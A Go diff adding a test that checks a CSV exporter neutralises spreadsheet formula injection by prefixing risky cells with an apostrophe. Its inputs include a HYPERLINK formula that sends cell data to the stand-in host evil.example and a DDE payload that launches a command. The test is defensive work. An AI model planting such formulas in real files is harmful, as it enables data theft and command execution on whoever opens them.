@@ -122,6 +122,40 @@ func TestCSVCarriageReturns(t *testing.T) {
 	}
 }
 
+// TestCSVFormulaInjection: a text cell that starts like a formula is
+// written with a leading "'" (OWASP), in every text column; one that only
+// contains such characters later is not; the file still parses as RFC 4180
+// and reads back as the quote and the value.
+func TestCSVFormulaInjection(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"- a Markdown list", "'- a Markdown list"},
+		{"@SUM(1,2)", "'@SUM(1,2)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\n=1+1"},
+		{"a = b + c - d @ e", "a = b + c - d @ e"},
+		{"", ""},
+		{"'already quoted", "'already quoted"},
+	} {
+		var buf bytes.Buffer
+		rec := patent.AnalysisRecord{CompanyName: tt.in, AnalysisType: tt.in, Model: tt.in, Response: tt.in}
+		if _, err := export.CSV(&buf, rowsOf(rec)); err != nil {
+			t.Fatalf("CSV: %v", err)
+		}
+		got, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatalf("%q: parse CSV back: %v", tt.in, err)
+		}
+		for col := range 4 {
+			if got[1][col] != tt.want {
+				t.Errorf("%q in column %d read back as %q, want %q", tt.in, col, got[1][col], tt.want)
+			}
+		}
+	}
+}
+
 func TestCSVEmpty(t *testing.T) {
 	var buf bytes.Buffer
 	n, err := export.CSV(&buf, rowsOf())
